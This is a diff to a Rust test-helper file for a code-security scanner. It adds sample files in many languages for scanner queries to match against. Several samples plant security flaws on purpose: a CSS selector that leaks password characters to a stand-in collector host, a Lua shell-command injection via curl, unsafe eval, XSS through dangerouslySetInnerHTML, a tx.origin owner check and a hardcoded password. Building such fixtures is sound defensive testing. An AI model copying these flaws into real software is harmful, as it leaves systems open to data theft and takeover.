@@ -1,5 +1,7 @@
+#![allow(dead_code)]
+
 use magma_scanner::scanner::Scanner;
-use magma_scanner::types::TreeSitterQuery;
+use magma_scanner::types::{MatchResult, TreeSitterQuery};
 use std::fs;
 use std::path::{Path, PathBuf};
 
@@ -22,6 +24,22 @@ pub fn create_test_query(language: &str, query_text: &str) -> TreeSitterQuery {
         object_id: "test_object_id".to_string(),
         prompt: "Test prompt".to_string(),
         reasoning: "Test reasoning".to_string(),
+        ..Default::default()
+    }
+}
+
+/// A finding of `question_id` matching `text` at `line` of `file`. Set other fields, such as
+/// the severity, with struct update syntax.
+pub fn finding(file: &str, line: usize, text: &str, question_id: &str) -> MatchResult {
+    MatchResult {
+        file: file.to_string(),
+        line,
+        column: 1,
+        text: text.to_string(),
+        question_id: question_id.to_string(),
+        organization_id: "test_org_id".to_string(),
+        code_base_version: "test_commit_hash".to_string(),
+        ..Default::default()
     }
 }
 
@@ -47,14 +65,32 @@ pub fn ensure_test_repo() {
         create_sample_file(&repo_path, "sample.ts", TS_SAMPLE);
         create_sample_file(&repo_path, "sample.java", JAVA_SAMPLE);
         create_sample_file(&repo_path, "sample.cpp", CPP_SAMPLE);
+        create_sample_file(&repo_path, "sample.c", C_SAMPLE);
         create_sample_file(&repo_path, "sample.rb", RUBY_SAMPLE);
         create_sample_file(&repo_path, "sample.php", PHP_SAMPLE);
+        create_sample_file(&repo_path, "sample.tf", TERRAFORM_SAMPLE);
+        create_sample_file(&repo_path, "sample.yml", YAML_SAMPLE);
+        create_sample_file(&repo_path, "sample.sql", SQL_SAMPLE);
+        create_sample_file(&repo_path, "sample.html", HTML_SAMPLE);
+        create_sample_file(&repo_path, "sample.css", CSS_SAMPLE);
+        create_sample_file(&repo_path, "sample.tsx", TSX_SAMPLE);
+        create_sample_file(&repo_path, "sample.svelte", SVELTE_SAMPLE);
+        create_sample_file(&repo_path, "sample.sol", SOLIDITY_SAMPLE);
+        create_sample_file(&repo_path, "sample.lua", LUA_SAMPLE);
+        create_sample_file(&repo_path, "sample.dart", DART_SAMPLE);
+        create_sample_file(&repo_path, "sample.zig", ZIG_SAMPLE);
+        create_sample_file(&repo_path, "sample.ps1", POWERSHELL_SAMPLE);
+        create_sample_file(&repo_path, "Jenkinsfile", GROOVY_SAMPLE);
+        create_sample_file(&repo_path, "sample.cs", CSHARP_SAMPLE);
+        create_sample_file(&repo_path, "sample.kt", KOTLIN_SAMPLE);
+        create_sample_file(&repo_path, "sample.swift", SWIFT_SAMPLE);
+        create_sample_file(&repo_path, "sample.scala", SCALA_SAMPLE);
     }
 }
 
 fn create_sample_file(repo_path: &Path, filename: &str, content: &str) {
     let file_path = repo_path.join(filename);
-    fs::write(file_path, content).expect(&format!("Failed to create {}", filename));
+    fs::write(file_path, content).unwrap_or_else(|_| panic!("Failed to create {}", filename));
 }
 
 // Sample code for each supported language
@@ -391,3 +427,398 @@ foreach ($users as $user) {
     echo $user->display() . "\n";
 }
 ?>"#;
+
+pub const CSHARP_SAMPLE: &str = r#"
+// Sample C# file for testing TreeSitter queries
+using System;
+using System.Collections.Generic;
+
+namespace Sample
+{
+    public class User
+    {
+        public int Id { get; }
+        private readonly string name;
+        private readonly string email;
+
+        public User(int id, string name, string email)
+        {
+            Id = id;
+            this.name = name;
+            this.email = email;
+        }
+
+        public string Display()
+        {
+            return $"User {Id} ({name}): {email}";
+        }
+    }
+
+    public static class Program
+    {
+        public static void Main()
+        {
+            // Create a dictionary of users
+            var users = new Dictionary<int, User>();
+
+            // Add some users
+            var user1 = new User(1, "Alice", "alice@example.com");
+            var user2 = new User(2, "Bob", "bob@example.com");
+
+            users[user1.Id] = user1;
+            users[user2.Id] = user2;
+
+            // Print users
+            foreach (var user in users.Values)
+            {
+                Console.WriteLine(user.Display());
+            }
+        }
+    }
+}
+"#;
+
+pub const KOTLIN_SAMPLE: &str = r#"
+// Sample Kotlin file for testing TreeSitter queries
+data class User(val id: Int, val name: String, val email: String) {
+    fun display(): String = "User $id ($name): $email"
+}
+
+fun main() {
+    // Create a map of users
+    val users = mutableMapOf<Int, User>()
+
+    // Add some users
+    val user1 = User(1, "Alice", "alice@example.com")
+    val user2 = User(2, "Bob", "bob@example.com")
+
+    users[user1.id] = user1
+    users[user2.id] = user2
+
+    // Print users
+    users.values.forEach { println(it.display()) }
+}
+"#;
+
+pub const SWIFT_SAMPLE: &str = r#"
+// Sample Swift file for testing TreeSitter queries
+import Foundation
+
+class User {
+    let id: Int
+    let name: String
+    let email: String
+
+    init(id: Int, name: String, email: String) {
+        self.id = id
+        self.name = name
+        self.email = email
+    }
+
+    func display() -> String {
+        return "User \(id) (\(name)): \(email)"
+    }
+}
+
+// Create a dictionary of users
+var users: [Int: User] = [:]
+
+// Add some users
+let user1 = User(id: 1, name: "Alice", email: "alice@example.com")
+let user2 = User(id: 2, name: "Bob", email: "bob@example.com")
+
+users[user1.id] = user1
+users[user2.id] = user2
+
+// Print users
+for user in users.values {
+    print(user.display())
+}
+"#;
+
+pub const SCALA_SAMPLE: &str = r#"
+// Sample Scala file for testing TreeSitter queries
+import scala.collection.mutable
+
+case class User(id: Int, name: String, email: String) {
+  def display(): String = s"User $id ($name): $email"
+}
+
+object Main {
+  def main(args: Array[String]): Unit = {
+    // Create a map of users
+    val users = mutable.Map[Int, User]()
+
+    // Add some users
+    val user1 = User(1, "Alice", "alice@example.com")
+    val user2 = User(2, "Bob", "bob@example.com")
+
+    users(user1.id) = user1
+    users(user2.id) = user2
+
+    // Print users
+    users.values.foreach(user => println(user.display()))
+  }
+}
+"#;
+
+pub const C_SAMPLE: &str = r#"
+// Sample C file for testing TreeSitter queries
+#include <stdio.h>
+
+struct user {
+    int id;
+    const char *name;
+    const char *email;
+};
+
+static void display(const struct user *u) {
+    printf("User %d (%s): %s\n", u->id, u->name, u->email);
+}
+
+int main(void) {
+    struct user users[] = {
+        { 1, "Alice", "alice@example.com" },
+        { 2, "Bob", "bob@example.com" },
+    };
+
+    for (int i = 0; i < 2; i++) {
+        display(&users[i]);
+    }
+    return 0;
+}
+"#;
+
+pub const TERRAFORM_SAMPLE: &str = r#"
+# Sample Terraform file for testing TreeSitter queries
+resource "aws_s3_bucket" "logs" {
+  bucket = "acme-logs"
+  acl    = "public-read"
+}
+
+resource "aws_s3_bucket_server_side_encryption_configuration" "logs" {
+  bucket = aws_s3_bucket.logs.id
+
+  rule {
+    apply_server_side_encryption_by_default {
+      sse_algorithm = "aws:kms"
+    }
+  }
+}
+
+variable "region" {
+  default = "us-east-1"
+}
+"#;
+
+pub const YAML_SAMPLE: &str = r#"
+# Sample GitHub Actions workflow for testing TreeSitter queries
+name: ci
+on:
+  push:
+    branches: [main]
+permissions:
+  contents: write
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: Test
+        run: cargo test
+        env:
+          DEPLOY_TOKEN: "${{ secrets.DEPLOY_TOKEN }}"
+"#;
+
+pub const SQL_SAMPLE: &str = r#"
+-- Sample migration for testing TreeSitter queries
+CREATE TABLE users (
+  id INTEGER PRIMARY KEY,
+  email VARCHAR(255) NOT NULL,
+  role VARCHAR(32) DEFAULT 'member'
+);
+
+INSERT INTO users (email, role) VALUES ('admin@example.com', 'admin');
+
+SELECT id, email FROM users WHERE role = 'admin';
+"#;
+
+pub const HTML_SAMPLE: &str = r#"
+<!-- Sample template for testing TreeSitter queries -->
+<!DOCTYPE html>
+<html>
+  <head>
+    <title>Checkout</title>
+    <script src="http://cdn.example.com/analytics.js"></script>
+    <script>
+      window.dataLayer = window.dataLayer || [];
+    </script>
+  </head>
+  <body>
+    <form action="/pay" method="post">
+      <input type="email" name="email">
+    </form>
+    <img src="https://tracker.example.com/pixel.gif" width="1" height="1">
+  </body>
+</html>
+"#;
+
+pub const CSS_SAMPLE: &str = r#"
+/* Sample stylesheet for testing TreeSitter queries */
+@import url("https://fonts.googleapis.com/css?family=Roboto");
+
+body {
+  font-family: "Roboto", sans-serif;
+}
+
+input[name="password"][value^="a"] {
+  background-image: url("https://collector.example.com/leak?c=a");
+}
+"#;
+
+pub const TSX_SAMPLE: &str = r#"
+// Sample React component for testing TreeSitter queries
+import React from "react";
+
+interface ProfileProps {
+  name: string;
+  bio: string;
+}
+
+export function Profile({ name, bio }: ProfileProps) {
+  return (
+    <div className="profile">
+      <h1>{name}</h1>
+      <div dangerouslySetInnerHTML={{ __html: bio }} />
+    </div>
+  );
+}
+"#;
+
+pub const SVELTE_SAMPLE: &str = r#"
+<!-- Sample Svelte component for testing TreeSitter queries -->
+<script lang="ts">
+  export let userId: string;
+
+  async function load() {
+    const res = await fetch(`/api/users/${userId}`);
+    localStorage.setItem("profile", JSON.stringify(await res.json()));
+  }
+</script>
+
+<button on:click={load}>Load profile</button>
+
+<style>
+  button { color: red; }
+</style>
+"#;
+
+pub const SOLIDITY_SAMPLE: &str = r#"
+// Sample contract for testing TreeSitter queries
+pragma solidity ^0.8.0;
+
+contract Vault {
+    address public owner;
+    mapping(address => uint256) public balances;
+
+    constructor() {
+        owner = msg.sender;
+    }
+
+    function deposit() external payable {
+        balances[msg.sender] += msg.value;
+    }
+
+    function close() external {
+        require(tx.origin == owner, "not owner");
+        selfdestruct(payable(owner));
+    }
+}
+"#;
+
+pub const LUA_SAMPLE: &str = r#"
+-- Sample plugin for testing TreeSitter queries
+local M = {}
+
+local config = {
+  endpoint = "https://telemetry.example.com/collect",
+}
+
+function M.run(input)
+  local chunk = loadstring(input)
+  return chunk()
+end
+
+function M.report(event)
+  os.execute("curl -s " .. config.endpoint .. " -d " .. event)
+end
+
+return M
+"#;
+
+pub const DART_SAMPLE: &str = r#"
+// Sample Flutter code for testing TreeSitter queries
+import 'package:flutter/material.dart';
+import 'package:shared_preferences/shared_preferences.dart';
+
+class LoginPage extends StatelessWidget {
+  const LoginPage({super.key});
+
+  Future<void> saveToken(String token) async {
+    final prefs = await SharedPreferences.getInstance();
+    await prefs.setString('auth_token', token);
+  }
+
+  @override
+  Widget build(BuildContext context) {
+    return const Text('Sign in');
+  }
+}
+"#;
+
+pub const ZIG_SAMPLE: &str = r#"
+// Sample firmware module for testing TreeSitter queries
+const std = @import("std");
+const c = @cImport({
+    @cInclude("crypto.h");
+});
+
+pub fn main() !void {
+    var gpa = std.heap.GeneralPurposeAllocator(.{}){};
+    const allocator = gpa.allocator();
+    const key = try allocator.alloc(u8, 32);
+    defer allocator.free(key);
+    std.debug.print("key size {d}\n", .{key.len});
+}
+"#;
+
+pub const POWERSHELL_SAMPLE: &str = r#"
+# Sample automation script for testing TreeSitter queries
+param(
+    [string]$Server = "db01.internal"
+)
+
+$password = ConvertTo-SecureString "P@ssw0rd!" -AsPlainText -Force
+$credential = New-Object System.Management.Automation.PSCredential ("admin", $password)
+
+$script = Get-Content -Path ".\setup.ps1" -Raw
+Invoke-Expression $script
+
+Invoke-Command -ComputerName $Server -Credential $credential -ScriptBlock { Restart-Service W3SVC }
+"#;
+
+pub const GROOVY_SAMPLE: &str = r#"
+// Sample Jenkins pipeline for testing TreeSitter queries
+pipeline {
+    agent any
+    stages {
+        stage('Deploy') {
+            steps {
+                withCredentials([string(credentialsId: 'deploy-token', variable: 'TOKEN')]) {
+                    sh "curl -H 'Authorization: Bearer ${TOKEN}' https://deploy.example.com"
+                }
+            }
+        }
+    }
+}
+"#;